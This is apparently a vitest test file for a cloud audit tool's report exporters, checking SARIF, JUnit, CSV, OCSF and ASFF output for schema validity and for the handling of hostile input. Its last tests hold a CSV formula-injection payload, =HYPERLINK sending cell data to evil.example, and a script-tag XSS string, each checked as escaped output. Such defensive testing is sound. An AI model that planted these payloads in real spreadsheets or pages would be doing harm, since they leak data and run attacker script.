// Every file format from the example audits and from a hostile one: valid against its schema or structure,
// carrying every result the JSON carries, and nothing it does not (the canary).
import { createRequire } from 'node:module';
import AjvDraft04 from 'ajv-draft-04';
import AjvFormats from 'ajv-formats';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { beforeAll, describe, expect, it } from 'vitest';
import { CANARY, EXAMPLES, exampleAudit, hostileAudit, HOSTILE_USER } from '../../test/report/audits.js';
import { asffProductArn, renderAsff } from './asff.js';
import type { AuditOutput } from './audit-output.js';
import { CSV_COLUMNS, renderCsv } from './csv.js';
import { REPORT_FORMATS, renderFormat, type FileFormat } from './formats.js';
import { renderJunit } from './junit.js';
import { renderOcsf } from './ocsf.js';
import { renderSarif } from './sarif.js';

const require = createRequire(import.meta.url);
// CommonJS modules: the default import is module.exports, whose .default is the class (the plugin).
const Ajv = AjvDraft04.default;
const addFormats = AjvFormats.default;
const sarifSchema = require('@microsoft/jest-sarif/lib/schemas/sarif-2.1.0-rtm.5.json') as object;
const ajv = new Ajv({ allErrors: true, strict: false, unicodeRegExp: false }) // the schema's language pattern is not valid in unicode mode;
addFormats(ajv);
const validateSarif = ajv.compile(sarifSchema);

// Characters XML 1.0 cannot carry that the hostile audit uses (U+0001, U+0007).
// eslint-disable-next-line no-control-regex -- exactly those characters are the point
const BELOW_TAB = /[\u0000-\u0008]/g;
const FILE_FORMATS = REPORT_FORMATS.filter((f): f is FileFormat => f !== 'text');
const audits: Record<string, AuditOutput> = {};

beforeAll(async () => {
  for (const e of EXAMPLES) audits[e] = await exampleAudit(e);
  audits.hostile = hostileAudit();
});

/** RFC 4180 reader: quoted fields may hold commas, doubled quotes and line breaks; records end in CRLF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  expect(field).toBe('');
  return rows;
}

describe.each(['leaky-account', 'clean-account', 'hostile'])('every format of the %s audit', (name) => {
  it('SARIF validates against the official 2.1.0 schema; rules are checks, results what needs attention', () => {
    const audit = audits[name]!;
    const sarif = renderSarif(audit) as { runs: { tool: { driver: { rules: { id: string }[] } }; results: { ruleId: string; ruleIndex: number; kind: string; locations: { logicalLocations: { fullyQualifiedName: string }[] }[]; partialFingerprints: Record<string, string> }[] }[] };
    // The validator is not vacuous: a run without its tool is refused.
    expect(validateSarif({ version: '2.1.0', runs: [{ results: [] }] })).toBe(false);
    const ok = validateSarif(sarif);
    expect(validateSarif.errors ?? []).toEqual([]);
    expect(ok).toBe(true);
    const run = sarif.runs[0]!;
    const attention = audit.results.filter((r) => r.status === 'FAIL' || r.status === 'UNKNOWN' || r.status === 'MANUAL');
    expect(run.results).toHaveLength(attention.length);
    expect(new Set(run.tool.driver.rules.map((r) => r.id))).toEqual(new Set(audit.results.map((r) => r.checkId)));
    run.results.forEach((res, i) => {
      expect(run.tool.driver.rules[res.ruleIndex]!.id).toBe(res.ruleId);
      expect(res.locations[0]!.logicalLocations[0]!.fullyQualifiedName).toBe(attention[i]!.resource);
      expect(res.kind).toBe(attention[i]!.status === 'FAIL' ? 'fail' : 'review');
    });
    const prints = run.results.map((r) => r.partialFingerprints['rampartFinding/v1']);
    expect(new Set(prints).size).toBe(prints.length);
  });

  it('JUnit is well-formed XML with a test case per result: FAIL a failure, UNKNOWN an error, N/A and MANUAL skipped', () => {
    const audit = audits[name]!;
    const xml = renderJunit(audit);
    expect(XMLValidator.validate(xml)).toBe(true);
    const doc = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '', isArray: (tag) => ['testsuite', 'testcase', 'property'].includes(tag) }).parse(xml) as {
      testsuites: { tests: string; failures: string; errors: string; skipped: string; testsuite: { testcase: { failure?: unknown; error?: unknown; skipped?: unknown; properties: { property: { name: string; value: string }[] } }[] }[] };
    };
    const cases = doc.testsuites.testsuite.flatMap((s) => s.testcase);
    const count = (s: string) => audit.results.filter((r) => r.status === s).length;
    expect(cases).toHaveLength(audit.results.length);
    expect(Number(doc.testsuites.tests)).toBe(audit.results.length);
    expect(Number(doc.testsuites.failures)).toBe(count('FAIL'));
    expect(Number(doc.testsuites.errors)).toBe(count('UNKNOWN'));
    expect(Number(doc.testsuites.skipped)).toBe(count('NOT_APPLICABLE') + count('MANUAL'));
    expect(cases.filter((c) => c.failure !== undefined)).toHaveLength(count('FAIL'));
    expect(cases.filter((c) => c.error !== undefined)).toHaveLength(count('UNKNOWN'));
    // Attributes come back exactly as the JSON has them (minus characters XML cannot carry).
    const resources = cases.map((c) => c.properties.property.find((p) => p.name === 'resource')!.value);
    expect(resources.sort()).toEqual(audit.results.map((r) => r.resource.replace(BELOW_TAB, '\uFFFD')).sort());
  });

  it('CSV is RFC 4180 with a row per result, and no cell a spreadsheet would run as a formula', () => {
    const audit = audits[name]!;
    const csv = renderCsv(audit);
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(audit.results.length + 1);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const col = CSV_COLUMNS.indexOf('resource');
    rows.slice(1).forEach((row, i) => expect(row[col]!.replace(/^'/, '')).toBe(audit.results[i]!.resource));
  });

  it('OCSF: a Compliance Finding (2003) per result with every attribute the class requires', () => {
    const audit = audits[name]!;
    // eslint-disable-next-line @typescript-eslint/no-explicit-any -- a deep JSON document checked field by field
    const events = renderOcsf(audit) as Record<string, any>[];
    expect(events).toHaveLength(audit.results.length);
    for (const e of events) {
      for (const key of ['activity_id', 'category_uid', 'class_uid', 'compliance', 'finding_info', 'metadata', 'severity_id', 'time', 'type_uid']) expect(e).toHaveProperty(key);
      expect(e.class_uid).toBe(2003);
      expect(e.category_uid).toBe(2);
      expect(e.type_uid).toBe(e.class_uid * 100 + e.activity_id);
      expect(e.metadata.version).toBe('1.1.0');
      expect(e.metadata.product.name).toBe('rampart');
      expect(typeof e.metadata.product.vendor_name).toBe('string');
      expect(typeof e.finding_info.uid).toBe('string');
      expect(typeof e.finding_info.title).toBe('string');
      expect(e.compliance.standards.length).toBeGreaterThan(0);
      expect([0, 1, 2, 3, 99]).toContain(e.compliance.status_id);
      expect([1, 2, 3, 4, 5]).toContain(e.severity_id);
      expect(Number.isInteger(e.time)).toBe(true);
      expect(e.cloud.provider).toBe('AWS');
    }
    expect(new Set(events.map((e) => e.finding_info.uid)).size).toBe(events.length);
  });

  it('ASFF: every required field, within the API limits, with ids stable across renders', () => {
    const audit = audits[name]!;
    const findings = renderAsff(audit, { region: 'eu-west-1' });
    expect(findings).toHaveLength(audit.results.length);
    for (const f of findings) {
      expect(f.SchemaVersion).toBe('2018-10-08');
      expect(f.ProductArn).toBe(asffProductArn('aws', 'eu-west-1', audit.account.id));
      expect(f.ProductArn).toBe(`arn:aws:securityhub:eu-west-1:${audit.account.id}:product/${audit.account.id}/default`);
      expect(f.AwsAccountId).toBe(audit.account.id);
      for (const key of ['Id', 'GeneratorId', 'CreatedAt', 'UpdatedAt', 'Title', 'Description'] as const) expect(f[key].length).toBeGreaterThan(0);
      expect(f.Title.length).toBeLessThanOrEqual(256);
      expect(f.Description.length).toBeLessThanOrEqual(1024);
      expect(f.Types.length).toBeGreaterThan(0);
      expect(['INFORMATIONAL', 'LOW', 'MEDIUM', 'HIGH', 'CRITICAL']).toContain(f.Severity.Label);
      expect(f.Resources.length).toBe(1);
      expect(['PASSED', 'WARNING', 'FAILED', 'NOT_AVAILABLE']).toContain(f.Compliance.Status);
      expect(f.RecordState).toBe(f.Compliance.Status === 'FAILED' || f.Compliance.Status === 'WARNING' || f.ProductFields['rampart/status'] === 'UNKNOWN' ? 'ACTIVE' : 'ARCHIVED');
    }
    expect(new Set(findings.map((f) => f.Id)).size).toBe(findings.length);
    expect(renderAsff(audit, { region: 'eu-west-1', updatedAt: '2027-01-01T00:00:00.000Z' }).map((f) => f.Id)).toEqual(findings.map((f) => f.Id));
  });
});

describe('hostile strings and secrets', () => {
  it('no format carries anything the JSON contract drops (a canary secret on the results)', () => {
    const audit = hostileAudit();
    for (const format of FILE_FORMATS) expect(renderFormat(format, audit, { region: 'us-east-1' }), format).not.toContain(CANARY);
  });

  it('CSV guards formulas and quotes what needs quoting', () => {
    const csv = renderCsv(hostileAudit());
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1)"`);
    expect(csv).toContain(`'+1 @SUM(A1) -2`);
    const rows = parseCsv(csv);
    const hostile = rows.find((r) => r[CSV_COLUMNS.indexOf('resource')]!.endsWith(HOSTILE_USER))!;
    expect(hostile[CSV_COLUMNS.indexOf('message')]).toBe(`user ${HOSTILE_USER} has no MFA\nsecond line, with "quotes"`);
  });

  it('JUnit escapes markup and drops characters XML cannot hold', () => {
    const xml = renderJunit(hostileAudit());
    expect(xml).not.toContain('<script>');
    expect(xml).not.toContain('\u0007');
    expect(xml).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });
});
